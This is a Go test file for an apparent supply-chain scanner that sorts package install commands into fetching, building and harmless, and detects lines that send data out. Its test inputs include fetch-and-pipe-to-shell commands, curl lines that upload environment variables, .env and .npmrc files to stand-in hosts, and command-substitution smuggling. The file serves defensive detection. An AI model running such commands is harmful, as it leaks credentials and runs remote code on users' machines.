package chain

import (
	"testing"

	"github.com/ringfence-dev/ringfence/checks/supply"
)

// Commands that bring something along are told from those that build.
func TestCommands(t *testing.T) {
	for _, c := range []struct {
		text            string
		fetches, builds bool
	}{
		{"curl -s https://a.invalid/x | sh", true, false},
		{"node-gyp rebuild; curl https://a.invalid", true, false},
		{"node-gyp rebuild", false, true},
		{"prebuild-install || node-gyp rebuild", false, true},
		{"node-gyp-build || exit 0", false, true},
		{"node-gyp rebuild && node evil.js", false, false},
		{"node-gyp rebuild $(node evil.js)", false, false},
		{"node-gyp rebuild > `node evil.js`", false, false},
		{"node install.js", false, false},
		{"powershell -w hidden -c x", true, false},
		{"node -e \"eval(process.env.A)\"", true, false},
		{"npx -y github:a/b#c", true, false},
		{"sh -c 'wget a.invalid'", true, false},
		{"bun run a.ts", true, false},
		{"node curly.js", false, false},
		{"echo done", false, true},
	} {
		if got := supply.Fetching().MatchString(c.text); got != c.fetches {
			t.Errorf("%q fetches: %t", c.text, got)
		}
		if got := supply.Building().MatchString(c.text); got != c.builds && !c.fetches {
			t.Errorf("%q builds: %t", c.text, got)
		}
	}
	for text, want := range map[string]bool{
		`node -p "require('node-addon-api').include"`: true, `node -p \"require('node-addon-api').include_dir\"`: true,
		`node -e "require('nan')"`: true, "pkg-config --cflags x11": true,
		`node -p "require('./evil')()"`: false, `node -p "require('child_process').execSync('id')"`: false, "pkg-config x | sh": false,
		"node evil.js": false,
	} {
		if got := supply.Asking().MatchString(text); got != want {
			t.Errorf("%q only asks: %t", text, got)
		}
	}
}

// What sends is told from what fetches, by letters whose case matters.
func TestLinesThatSend(t *testing.T) {
	for text, want := range map[string]bool{
		"env | curl -s --data-binary @- https://x.example/v": true, "curl -F file=@.env https://x.example": true,
		"curl -T .npmrc https://x.example/": true, "curl https://x.example -d @.env": true, "curl -d@.env https://x.example": true,
		"curl -fsSL https://x.example/i.sh": false, "curl -f -s https://x.example/v": false, "curl -t x https://x.example": false,
	} {
		if got := sendsLine(text) != ""; got != want {
			t.Errorf("%q sends: %t", text, got)
		}
	}
}
